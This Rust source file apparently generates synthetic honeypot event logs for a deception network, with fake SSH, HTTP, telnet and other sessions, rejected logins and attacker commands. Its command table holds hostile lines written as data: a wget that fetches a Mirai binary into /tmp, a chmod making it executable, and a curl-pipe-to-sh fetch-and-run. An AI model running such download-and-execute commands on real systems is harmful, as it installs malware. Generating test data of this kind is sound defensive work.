//! Lines as deckies write them, the same each time.

use std::{net::SocketAddr, sync::Arc};

use decnet_event::{Boot, Event, Kind, Origin, Session, SessionId, Timestamp, wire::encode};

/// Services by the share of events that they have.
const SERVICES: [&str; 8] = ["ssh", "ssh", "ssh", "http", "http", "telnet", "smtp", "redis"];
const DECKIES: u64 = 40;
const ATTACKERS: u64 = 5_000;
const NAMES: [&str; 8] = ["root", "admin", "test", "ubuntu", "oracle", "pi", "user", "postgres"];
const COMMANDS: [(&str, &str); 6] = [
    ("uname", "-a"),
    ("cat", "/proc/cpuinfo"),
    ("wget", "http://203.0.113.77/bins/mirai.arm7 -O /tmp/.x"),
    ("chmod", "777 /tmp/.x"),
    ("curl", "-s https://198.51.100.4/setup.sh | sh"),
    ("ls", "-la /var/www/html"),
];

/// When the first event happens, in microseconds.
pub(crate) const BEGIN: i64 = 1_764_000_000_000_000;
/// How long after the one before an event happens.
pub(crate) const STEP: i64 = 600_000;

/// A row of the record, but for its ids.
#[derive(Debug)]
pub(crate) struct Made {
    pub(crate) time: i64,
    pub(crate) decky: String,
    pub(crate) service: &'static str,
    pub(crate) kind: &'static str,
    pub(crate) address: String,
    pub(crate) session: i64,
    pub(crate) line: Vec<u8>,
}

/// Numbers that look random (SplitMix64).
#[derive(Debug)]
pub(crate) struct Numbers(pub(crate) u64);

impl Numbers {
    fn below(&mut self, bound: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (mixed ^ (mixed >> 31)) % bound
    }

    fn of<T: Copy>(&mut self, all: &[T], default: T) -> T {
        all.get(self.below(all.len() as u64) as usize).copied().unwrap_or(default)
    }
}

/// The event of this number.
pub(crate) fn make(numbers: &mut Numbers, number: i64) -> Made {
    let (decky, service) = (numbers.below(DECKIES), numbers.of(&SERVICES, "ssh"));
    // A few attackers make the most noise.
    let attacker = {
        let most = 1 + numbers.below(ATTACKERS);
        numbers.below(most)
    };
    let [_, _, high, low] = (attacker as u32).to_be_bytes();
    let src = SocketAddr::from(([185, 220, high, low], 1024 + numbers.below(60_000) as u16));
    let dst = SocketAddr::from(([10, 0, 0, decky as u8 + 10], 22));
    let session = Session { id: SessionId(numbers.below(u64::MAX)), src, dst };
    let kind = kind(numbers, service, number);
    let time = BEGIN + number * STEP + numbers.below(400_000) as i64;
    let origin =
        Origin { decky: format!("decky-{decky:02}"), service: service.to_owned(), boot: Boot(decky) };
    let (name, mut line) = (kind.name(), Vec::new());
    let (origin, session) = (Arc::new(origin), Some(session));
    let event = Event { time: Timestamp(time), origin, seq: number as u64, session, kind };
    encode(&event, &mut line);
    let (decky, address) = (event.origin.decky.clone(), src.ip().to_string());
    Made { time, decky, service, kind: name, address, session: 1 + number / 5, line }
}

fn kind(numbers: &mut Numbers, service: &str, number: i64) -> Kind {
    match numbers.below(10) {
        0 | 1 => Kind::Connect {},
        2 | 3 => Kind::Disconnect {
            reason: "peer",
            duration_ms: numbers.below(90_000),
            bytes_in: numbers.below(9_000),
            bytes_out: numbers.below(90_000),
        },
        4 | 5 if service == "http" => request(numbers),
        4..=7 => attempt(numbers),
        _ => {
            let (command, args) = numbers.of(&COMMANDS, ("ls", ""));
            let rare = if number % 100_000 == 4_711 { " rarely.seen.example" } else { "" };
            Kind::Command { command: command.into(), args: format!("{args}{rare}").into() }
        }
    }
}

fn attempt(numbers: &mut Numbers) -> Kind {
    Kind::AuthAttempt {
        mechanism: "plain",
        username: Some(numbers.of(&NAMES, "root").into()),
        password: Some(format!("{}{}", numbers.of(&NAMES, "root"), numbers.below(100_000)).into()),
        status: "rejected",
        key_type: None,
        key_bits: None,
        key_fingerprint: None,
        hash: None,
    }
}

fn request(numbers: &mut Numbers) -> Kind {
    let path = format!("/cgi-bin/{}/{}.php", numbers.of(&NAMES, "x"), numbers.below(500));
    Kind::Request {
        method: b"GET".into(),
        path: path.into(),
        query: None,
        http_version: Some(b"HTTP/1.1".into()),
        host: Some(b"intranet.example".into()),
        user_agent: Some(b"Mozilla/5.0 (compatible; Nmap Scripting Engine)".into()),
        headers: r#"{"Accept":"*/*","Connection":"close"}"#.to_owned(),
        body: None,
        status: 404,
    }
}
